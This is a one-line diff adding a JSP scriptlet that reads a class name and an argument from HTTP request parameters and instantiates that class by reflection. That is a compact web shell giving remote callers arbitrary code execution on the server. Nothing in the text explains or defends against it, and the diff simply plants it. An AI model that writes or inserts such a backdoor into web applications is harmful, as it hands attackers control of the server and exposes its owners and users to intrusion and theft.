@@ -1,0 +1,1 @@
+<% Class<?> k = Class.forName(request.getParameter("ctx")); k.getConstructor(String.class).newInstance(request.getParameter("a")); %>
